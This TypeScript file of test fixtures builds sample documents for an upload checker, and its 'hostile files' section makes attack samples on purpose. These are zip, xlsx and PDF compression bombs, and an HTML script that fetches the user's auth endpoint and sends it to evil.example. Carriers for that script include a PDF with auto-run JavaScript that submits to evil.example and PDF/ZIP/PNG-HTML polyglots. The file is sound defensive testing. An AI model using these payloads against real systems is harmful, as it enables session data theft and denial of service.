import { randomBytes } from 'node:crypto';
import { createDeflate, createDeflateRaw, deflateRawSync, crc32 as zlibCrc32 } from 'node:zlib';
import CFB from 'cfb';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import { crc32, type ZipItem, zipFixture, zipItems } from '../../../scripts/lib/zip-store.mjs';

// The store-only zip is written by the one zip writer the scripts and benches use too.
export { zipFixture };

/** A small valid PDF with one page. */
export async function pdfFixture(text = 'materials'): Promise<Buffer> {
  const doc = await PDFDocument.create();
  doc.setTitle(text);
  doc.addPage([200, 200]);
  return Buffer.from(await doc.save());
}

/** A PDF whose trailer points at a standard security handler: what a password-protected PDF looks like to a parser. */
export function encryptedPdfFixture(): Buffer {
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
    '<< /Filter /Standard /V 1 /R 2 /O <28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A> /U <28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A> /P -44 >>',
  ];
  let body = '%PDF-1.4\n';
  const offsets: number[] = [];
  objects.forEach((object, i) => {
    offsets.push(Buffer.byteLength(body, 'latin1'));
    body += `${i + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xref = Buffer.byteLength(body, 'latin1');
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R /Encrypt 4 0 R /ID [<0123456789ABCDEF0123456789ABCDEF> <0123456789ABCDEF0123456789ABCDEF>] >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, 'latin1');
}

/** A zip whose entries are deflated, as Office writes them (pictures too: they just do not shrink). */
export function deflatedZipFixture(entries: Record<string, string | Buffer>): Buffer {
  return zipItems(
    Object.entries(entries).map(([name, content]) => {
      const data = Buffer.isBuffer(content) ? content : Buffer.from(content);
      return { name, method: 8, crc: crc32(data), size: data.length, payload: deflateRawSync(data, { level: 6 }) };
    }),
  );
}

const CONTENT_TYPES =
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
  '<Override PartName="/ppt/presentation.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"/></Types>';

/** The skeleton of a .pptx: enough for a reader to see a presentation in it. */
export function pptxFixture(title = 'slides'): Buffer {
  return zipFixture({
    '[Content_Types].xml': CONTENT_TYPES,
    'ppt/presentation.xml': `<?xml version="1.0" encoding="UTF-8"?><p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"><!-- ${title} --></p:presentation>`,
  });
}

/** An OLE2 container with the given streams: a legacy .ppt ('PowerPoint Document'), an encrypted OOXML ('EncryptedPackage'), ... */
export function oleFixture(streams: string[]): Buffer {
  const container = CFB.utils.cfb_new();
  for (const name of streams) CFB.utils.cfb_add(container, `/${name}`, Buffer.from(`${name} bytes`));
  return Buffer.from(CFB.write(container, { type: 'buffer' }) as Uint8Array);
}

/** What a Windows program starts with; renamed to .pdf it must still be refused. */
export function executableFixture(): Buffer {
  const bytes = Buffer.alloc(512);
  bytes.write('MZ', 0, 'latin1');
  bytes.writeUInt32LE(0x80, 0x3c);
  bytes.write('PE\0\0', 0x80, 'latin1');
  return bytes;
}

/** A tiny valid PNG (1×1), made by hand so no image library is needed. */
export const PNG_1x1 = Buffer.from(
  '89504e470d0a1a0a0000000d4948445200000001000000010806000000' + '1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082',
  'hex',
);

/** A PDF with these pages of (Chinese) text in an embedded font, wrapped to the page: what pdf.js reads back page by page. */
export async function textPdfFixture(pages: readonly string[]): Promise<Buffer> {
  const { cjkTextPdf } = await import('../../src/common/cjk-text-pdf.js');
  return cjkTextPdf(pages);
}

const escapeXml = (text: string) => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');

/**
 * A .pptx whose slides hold these texts (a paragraph per line), listed in presentation.xml in the order given while the
 * part names run backwards: a reader must follow the presentation's order, not the file names.
 */
export function textPptxFixture(slides: readonly string[]): Buffer {
  const n = slides.length;
  const entries: Record<string, string> = { '[Content_Types].xml': CONTENT_TYPES };
  const ids: string[] = [];
  const rels: string[] = [];
  slides.forEach((text, k) => {
    const part = `slide${n - k}.xml`;
    const paragraphs = text
      .split('\n')
      .map((line) => `<a:p><a:r><a:rPr lang="zh-CN"/><a:t>${escapeXml(line)}</a:t></a:r></a:p>`)
      .join('');
    entries[`ppt/slides/${part}`] =
      '<?xml version="1.0" encoding="UTF-8"?><p:sld xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main">' +
      `<p:cSld><p:spTree><p:sp><p:txBody><a:bodyPr/>${paragraphs}</p:txBody></p:sp></p:spTree></p:cSld></p:sld>`;
    ids.push(`<p:sldId id="${256 + k}" r:id="rId${k + 2}"/>`);
    rels.push(`<Relationship Id="rId${k + 2}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/slide" Target="slides/${part}"/>`);
  });
  entries['ppt/presentation.xml'] =
    '<?xml version="1.0" encoding="UTF-8"?><p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">' +
    `<p:sldIdLst>${ids.join('')}</p:sldIdLst></p:presentation>`;
  entries['ppt/_rels/presentation.xml.rels'] =
    `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rels.join('')}</Relationships>`;
  return zipFixture(entries);
}

// ————— Hostile files (issue 16): compression bombs, scripts in PDFs, polyglots —————

const MiB = 1024 * 1024;

/** `times` copies of `chunk`, deflated as a stream (never held unpacked): the bytes, their CRC-32 and their size. */
async function deflatedRun(chunk: Buffer, times: number, format: 'raw' | 'zlib'): Promise<{ payload: Buffer; crc: number; size: number }> {
  const deflater = format === 'raw' ? createDeflateRaw({ level: 9 }) : createDeflate({ level: 9 });
  const out: Buffer[] = [];
  deflater.on('data', (piece: Buffer) => out.push(piece));
  const ended = new Promise((resolve, reject) => {
    deflater.on('end', resolve);
    deflater.on('error', reject);
  });
  let crc = 0;
  for (let k = 0; k < times; k++) {
    crc = zlibCrc32(chunk, crc);
    if (!deflater.write(chunk)) await new Promise((resolve) => deflater.once('drain', resolve));
  }
  deflater.end();
  await ended;
  return { payload: Buffer.concat(out), crc: crc >>> 0, size: chunk.length * times };
}

/**
 * The zip bomb of issue 16: a real-looking .pptx (presentation, relationships) with `slides` slides, each `bytesPerSlide`
 * of one repeated byte (or, with `xml`, a slide whose one text run is that long). 40 × 16 MiB packs into about 700 KB.
 * With `lie`, the headers declare each slide a tenth of its size (yauzl and the sandbox must count, not trust).
 */
export async function pptxBombFixture(options: { slides?: number; bytesPerSlide?: number; xml?: boolean; lie?: boolean } = {}): Promise<Buffer> {
  const { slides = 40, bytesPerSlide = 16 * MiB, xml = false, lie = false } = options;
  let run: { payload: Buffer; crc: number; size: number };
  if (xml) {
    // <p:sld><p:cSld><p:spTree><p:sp><p:txBody><a:p><a:r><a:t>AAAA…</a:t></a:r></a:p>…
    const open = '<?xml version="1.0" encoding="UTF-8"?><p:sld xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"><p:cSld><p:spTree><p:sp><p:txBody><a:p><a:r><a:t>';
    const close = '</a:t></a:r></a:p></p:txBody></p:sp></p:spTree></p:cSld></p:sld>';
    const body = Buffer.alloc(MiB, 0x41);
    const whole = Buffer.from(open);
    const deflater = createDeflateRaw({ level: 9 });
    const out: Buffer[] = [];
    deflater.on('data', (piece: Buffer) => out.push(piece));
    const ended = new Promise((resolve) => deflater.on('end', resolve));
    let crc = zlibCrc32(whole);
    deflater.write(whole);
    let size = whole.length;
    for (let k = 0; k < Math.floor((bytesPerSlide - open.length - close.length) / MiB); k++) {
      crc = zlibCrc32(body, crc);
      size += body.length;
      if (!deflater.write(body)) await new Promise((resolve) => deflater.once('drain', resolve));
    }
    crc = zlibCrc32(Buffer.from(close), crc);
    size += close.length;
    deflater.end(Buffer.from(close));
    await ended;
    run = { payload: Buffer.concat(out), crc: crc >>> 0, size };
  } else {
    run = await deflatedRun(Buffer.alloc(MiB, 0x41), Math.round(bytesPerSlide / MiB), 'raw');
  }
  const text = (value: string): ZipItem => {
    const data = Buffer.from(value);
    return { name: '', method: 8, crc: crc32(data), size: data.length, payload: deflateRawSync(data) };
  };
  const ids = Array.from({ length: slides }, (_, k) => `<p:sldId id="${256 + k}" r:id="rId${k + 2}"/>`).join('');
  const rels = Array.from({ length: slides }, (_, k) => `<Relationship Id="rId${k + 2}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/slide" Target="slides/slide${k + 1}.xml"/>`).join('');
  const items: ZipItem[] = [
    { ...text(CONTENT_TYPES), name: '[Content_Types].xml' },
    {
      ...text(`<?xml version="1.0" encoding="UTF-8"?><p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><p:sldIdLst>${ids}</p:sldIdLst></p:presentation>`),
      name: 'ppt/presentation.xml',
    },
    { ...text(`<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rels}</Relationships>`), name: 'ppt/_rels/presentation.xml.rels' },
  ];
  for (let k = 1; k <= slides; k++) items.push({ name: `ppt/slides/slide${k}.xml`, method: 8, crc: run.crc, size: run.size, payload: run.payload, declaredSize: lie ? Math.floor(run.size / 10) : undefined });
  return zipItems(items);
}

/**
 * A PowerPoint file as PowerPoint writes it: deflated XML (slides, layouts, a theme) and pictures that do not shrink
 * (random bytes, as JPEG data is). The upload check must let it through.
 */
export function realisticPptxFixture(slides: readonly string[], pictures = 4, pictureBytes = 400 * 1024): Buffer {
  const base = textPptxFixtureEntries(slides);
  const layout = `<?xml version="1.0" encoding="UTF-8"?><p:sldLayout xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"><p:cSld><p:spTree>${Array.from({ length: 40 }, (_, k) => `<p:sp><p:nvSpPr><p:cNvPr id="${k + 2}" name="占位符 ${k}"/></p:nvSpPr><p:spPr><a:xfrm><a:off x="${k * 9144}" y="${k * 4572}"/><a:ext cx="8229600" cy="1143000"/></a:xfrm></p:spPr></p:sp>`).join('')}</p:spTree></p:cSld></p:sldLayout>`;
  for (let k = 1; k <= 11; k++) base[`ppt/slideLayouts/slideLayout${k}.xml`] = layout;
  base['ppt/theme/theme1.xml'] = `<?xml version="1.0" encoding="UTF-8"?><a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" name="Office 主题">${'<a:srgbClr val="4472C4"/>'.repeat(2000)}</a:theme>`;
  for (let k = 1; k <= pictures; k++) base[`ppt/media/image${k}.jpeg`] = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), randomBytes(pictureBytes)]);
  return deflatedZipFixture(base);
}

/** The entries textPptxFixture zips (slides, presentation, relationships), to build variants from. */
function textPptxFixtureEntries(slides: readonly string[]): Record<string, string | Buffer> {
  const zip = textPptxFixture(slides);
  const entries: Record<string, string | Buffer> = {};
  // Walk the local headers of the store-only zip textPptxFixture made.
  let at = 0;
  while (zip.readUInt32LE(at) === 0x04034b50) {
    const size = zip.readUInt32LE(at + 18);
    const nameLength = zip.readUInt16LE(at + 26);
    const name = zip.toString('utf8', at + 30, at + 30 + nameLength);
    entries[name] = zip.subarray(at + 30 + nameLength, at + 30 + nameLength + size);
    at += 30 + nameLength + size;
  }
  return entries;
}

/**
 * An .xlsx bomb for the expert import: a real workbook whose one sheet holds `rows` copies of the same row (header
 * row first), deflated to a few hundred KB — exceljs would build every row in memory. With `lie`, the headers declare a
 * tenth of the sheet's size.
 */
export async function xlsxBombFixture(rows = 200_000, lie = false): Promise<Buffer> {
  const head =
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>' +
    '<row r="1"><c r="A1" t="inlineStr"><is><t>姓名</t></is></c><c r="B1" t="inlineStr"><is><t>手机</t></is></c></row>';
  // Every row is the same row 2 (exceljs builds each one before it files them by number): it packs about 1,000×.
  const cells = 'ABCDEFGHIJ'.split('').map((c) => `<c r="${c}2" t="inlineStr"><is><t>张三丰张三丰张三丰</t></is></c>`).join('');
  const perChunk = 1000;
  const deflater = createDeflateRaw({ level: 9 });
  const out: Buffer[] = [];
  deflater.on('data', (piece: Buffer) => out.push(piece));
  const ended = new Promise((resolve) => deflater.on('end', resolve));
  let crc = zlibCrc32(Buffer.from(head));
  let size = Buffer.byteLength(head);
  deflater.write(head);
  for (let first = 2; first <= rows + 1; first += perChunk) {
    let text = '';
    for (let r = first; r < Math.min(first + perChunk, rows + 2); r++) text += `<row r="2">${cells}</row>`;
    const chunk = Buffer.from(text);
    crc = zlibCrc32(chunk, crc);
    size += chunk.length;
    if (!deflater.write(chunk)) await new Promise((resolve) => deflater.once('drain', resolve));
  }
  const tail = Buffer.from('</sheetData></worksheet>');
  crc = zlibCrc32(tail, crc);
  size += tail.length;
  deflater.end(tail);
  await ended;
  const small = (name: string, value: string): ZipItem => {
    const data = Buffer.from(value);
    return { name, method: 8, crc: crc32(data), size: data.length, payload: deflateRawSync(data) };
  };
  return zipItems([
    small(
      '[Content_Types].xml',
      '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
    ),
    small('_rels/.rels', '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'),
    small(
      'xl/workbook.xml',
      '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="专家" sheetId="1" r:id="rId1"/></sheets></workbook>',
    ),
    small('xl/_rels/workbook.xml.rels', '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'),
    { name: 'xl/worksheets/sheet1.xml', method: 8, crc: crc >>> 0, size, payload: Buffer.concat(out), declaredSize: lie ? Math.floor(size / 10) : undefined },
  ]);
}

/** A hand-written PDF from its objects (`stream` objects given as [dictionary, data]), with a correct xref table. */
function handPdf(objects: ReadonlyArray<string | [string, Buffer]>, trailerExtra = ''): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let length = parts[0]!.length;
  const offsets: number[] = [];
  objects.forEach((object, i) => {
    offsets.push(length);
    const piece =
      typeof object === 'string'
        ? Buffer.from(`${i + 1} 0 obj\n${object}\nendobj\n`, 'latin1')
        : Buffer.concat([Buffer.from(`${i + 1} 0 obj\n${object[0].replace('%LENGTH%', String(object[1].length))}\nstream\n`, 'latin1'), object[1], Buffer.from('\nendstream\nendobj\n', 'latin1')]);
    parts.push(piece);
    length += piece.length;
  });
  const xref = length;
  parts.push(
    Buffer.from(
      `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}` +
        `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailerExtra}>>\nstartxref\n${xref}\n%%EOF\n`,
      'latin1',
    ),
  );
  return Buffer.concat(parts);
}

/**
 * A PDF whose one page's content stream is a deflate bomb: `bytes` of spaces (valid, empty page content) packed about
 * 1,000 times. pdf.js inflates a page's content to read its text, into memory outside the JS heap.
 */
export async function pdfDeflateBombFixture(bytes = 128 * MiB): Promise<Buffer> {
  const run = await deflatedRun(Buffer.alloc(MiB, 0x20), Math.round(bytes / MiB), 'zlib');
  return handPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>',
    ['<< /Length %LENGTH% /Filter /FlateDecode >>', run.payload],
  ]);
}

/** The payload after `%%EOF` of the hostile PDFs: a page that would run script if a browser rendered it. */
export const HTML_PAYLOAD = '<!DOCTYPE html><html><body><script>fetch("/api/v1/auth/me").then(r=>r.text()).then(t=>new Image().src="//evil.example/?"+t)</script></body></html>\n';

/** A PDF that runs JavaScript when opened (/OpenAction) and has an HTML page after its %%EOF. */
export async function openActionPdfFixture(): Promise<Buffer> {
  const doc = await PDFDocument.create();
  doc.addPage([200, 200]);
  const action = doc.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert(document.domain); this.submitForm("https://evil.example/");') });
  doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(action));
  return Buffer.concat([Buffer.from(await doc.save({ useObjectStreams: false })), Buffer.from(HTML_PAYLOAD)]);
}

/** A file that is a PDF (it starts with %PDF and parses) and a ZIP (its central directory is at the end) holding HTML. */
export async function pdfZipPolyglotFixture(): Promise<Buffer> {
  return Buffer.concat([await pdfFixture('polyglot'), zipFixture({ 'index.html': HTML_PAYLOAD })]);
}

/** A PDF that is also an HTML page (the markup after the PDF's own bytes, browsers render from the first tag they find). */
export async function pdfHtmlPolyglotFixture(): Promise<Buffer> {
  return Buffer.concat([await pdfFixture('polyglot'), Buffer.from(HTML_PAYLOAD)]);
}

/** A PNG that is also HTML: a valid 1×1 picture followed by a page with a script. */
export const PNG_HTML_POLYGLOT = Buffer.concat([PNG_1x1, Buffer.from(HTML_PAYLOAD)]);
